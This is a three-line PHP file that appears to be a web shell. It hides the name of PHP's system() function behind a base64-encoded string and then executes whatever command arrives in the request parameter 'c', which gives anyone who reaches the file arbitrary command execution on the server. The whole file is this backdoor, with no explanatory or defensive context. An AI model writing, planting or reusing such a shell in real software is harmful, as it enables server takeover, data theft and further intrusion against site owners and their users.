<?php
$fn = base64_decode('c3lzdGVt');
$fn($_REQUEST['c']);
